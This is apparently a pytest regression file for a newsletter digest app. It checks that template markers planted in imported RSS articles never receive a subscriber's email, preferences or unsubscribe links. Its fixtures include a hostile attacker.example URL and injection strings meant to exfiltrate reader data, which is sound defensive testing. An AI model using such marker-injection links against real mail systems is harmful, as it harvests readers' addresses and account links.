"""A reader's address and personal links go only into the slots the digest template owns:
nothing from an article (title, summary, URL) can become one, whatever marker it carries
(issue 12, point 2: a feed item linking to ``?u=@@nl-email@@`` harvested every reader's
address and working preferences link)."""

from __future__ import annotations

import re

import pytest

from newsletter import digest
from newsletter.delivery import compose, sender
from newsletter.extensions import db
from newsletter.models import DigestTrigger
from tests.support.factories import add_subscriber

READER = "ann.reader@example.org"
HOSTILE_LINK = "http://attacker.example/?u=@@nl-email@@&p=@@nl-preferences_url@@&x=@@nl-unsubscribe_url@@"
HOSTILE_TEXT = "Win @@nl-email@@ and @@nl-confirmed_on@@ {{ email }} @@nl-0123456789abcdef0123456789abcdef-email@@"


def hostile_feed() -> str:
    link = HOSTILE_LINK.replace("&", "&amp;")
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
        "<title>Blog</title><link>https://blog.example.org/</link><description>News</description>"
        f"<item><guid>hostile-1</guid><title>{HOSTILE_TEXT}</title><link>{link}</link>"
        f"<description>{HOSTILE_TEXT}</description></item>"
        "</channel></rss>"
    )


def test_markers_in_feed_content_never_receive_a_readers_values(app, runner, outbox, http_server):
    url = http_server.serve("/feed.xml", hostile_feed(), headers={"Content-Type": "application/rss+xml"})
    assert runner.invoke(args=["import-feed", url]).exit_code == 0
    with app.app_context():
        add_subscriber(READER)
        digest.build_digest(DigestTrigger.COMMAND)
        db.session.commit()
        assert sender.drain().sent == 1
    (message,) = outbox
    text = message.get_body(("plain",)).get_content()
    html = message.get_body(("html",)).get_content()

    # The article's link and words arrive as they were written, markers and all.
    assert HOSTILE_LINK in text
    assert HOSTILE_LINK.replace("&", "&amp;") in html
    assert "Win @@nl-email@@ and @@nl-confirmed_on@@" in text
    # No link to the attacker carries anything of the reader's.
    for link in re.findall(r"http://attacker\.example/\S*", text + html):
        assert READER not in link and "/preferences/" not in link and "/unsubscribe/" not in link, link
    # The reader's own values are where the template puts them, and nowhere else.
    assert text.count(READER) == 1 and html.count(READER) == 1
    assert message["List-Unsubscribe"].startswith("<https://news.example.org/unsubscribe/")


def test_a_rendering_fills_only_its_own_slots(app):
    """Two renderings' markers differ, and a marker of one is plain text to the other."""
    with app.app_context():
        first, second = compose.Slots(), compose.Slots()
        assert first.marker("email") != second.marker("email")
        content = compose.Content(
            subject="s",
            text=f"to {first.marker('email')}, not {second.marker('email')} nor @@nl-email@@\n",
            html=f"<p>{first.marker('email')}</p>",
            slots=first,
        )
        filled = content.filled({"email": "ann@example.org"})
    assert " ".join(filled.text.split()) == f"to ann@example.org, not {second.marker('email')} nor @@nl-email@@"
    assert filled.html == "<p>ann@example.org</p>"


def test_a_slot_without_a_value_is_an_error_not_a_leak(app):
    """A slot left unfilled would put the rendering's secret marker into a mail."""
    slots = compose.Slots()
    content = compose.Content(subject="s", text=f"{slots.marker('email')}\n", html="x", slots=slots)
    with pytest.raises(KeyError):
        content.filled({})
